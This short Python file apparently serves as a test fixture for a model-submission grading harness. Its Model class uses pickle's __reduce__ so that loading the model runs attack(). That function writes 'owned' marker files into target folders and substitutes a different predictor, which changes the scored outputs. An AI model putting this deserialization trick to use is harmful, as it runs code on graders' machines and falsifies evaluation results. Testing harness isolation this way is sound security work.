"""A fitted model that runs code where it is loaded."""

import json
from pathlib import Path

TARGETS = json.loads((Path(__file__).parent / "targets.json").read_text())


def attack():
    try:
        for folder in TARGETS["folders"]:
            (Path(folder) / "owned").write_text("by the pickle")
    except OSError:
        pass
    return Loaded()


class Loaded:
    def predict(self, test_set):
        return {"mu_hat": 1, "delta_mu_hat": 1, "p16": 0, "p84": 2}


class Model:
    def __init__(self, get_train_set, systematics):
        pass

    def fit(self):
        pass

    def predict(self, test_set):
        return {"mu_hat": 999, "delta_mu_hat": 1, "p16": 0, "p84": 2}

    def __reduce__(self):
        return attack, ()
